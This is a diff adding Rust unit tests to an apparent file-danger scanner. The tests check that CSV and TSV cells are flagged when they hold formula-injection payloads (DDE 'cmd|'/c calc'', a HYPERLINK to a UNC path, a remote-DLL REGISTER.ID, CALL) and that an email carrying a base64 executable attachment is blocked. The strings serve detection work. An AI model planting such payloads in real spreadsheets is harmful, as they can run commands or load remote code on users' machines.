@@ -464,3 +464,32 @@ fn honest_texts_and_tables_come_in() {
     let data = "<?xml version=\"1.0\"?><project><plugin>x</plugin><image href=\"http://vi-du.vn/a.png\"/></project>";
     assert_eq!(danger(data.as_bytes(), "a.xml"), None);
 }
+
+#[test]
+fn a_cell_begins_behind_any_sign_between_cells_and_goes_over_lines() {
+    for table in [
+        "a\tb\n1\t=cmd|'/c calc'!A0\n",
+        "sep=^\n1^=cmd|'/c calc'!A0\n",
+        "a,b\n1,\"=1+\ncmd|'/c calc'!A0\"\n",
+        "a\tb\n1\t=HYPERLINK(\"\\\\vi-du\\a\")\n",
+        "a,b\n1,=REGISTER.ID(\"\\\\vi-du\\s\\x.dll\",\"f\")\n",
+        "a,b\n1,=CALL(\"x\",\"f\",\"J\")\n",
+    ] {
+        for name in ["a.csv", "a.txt"] {
+            assert!(danger(table.as_bytes(), name).is_some(), "{name}: {table}");
+        }
+    }
+    for honest in [
+        "a\tb\n1\t= 5 + 3\n",
+        "Gọi (call) lại - 02/2022\n",
+        "sep=;\nTên;Số\nA;1\n",
+    ] {
+        assert_eq!(danger(honest.as_bytes(), "a.txt"), None, "{honest}");
+    }
+}
+
+#[test]
+fn a_letter_with_parts_is_closed_however_short_its_head_is() {
+    let letter = "From: a@vi-du.vn\nSubject: x\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA\n--x--\n";
+    assert_eq!(danger(letter.as_bytes(), "a.txt"), Some(Danger::Closed));
+}
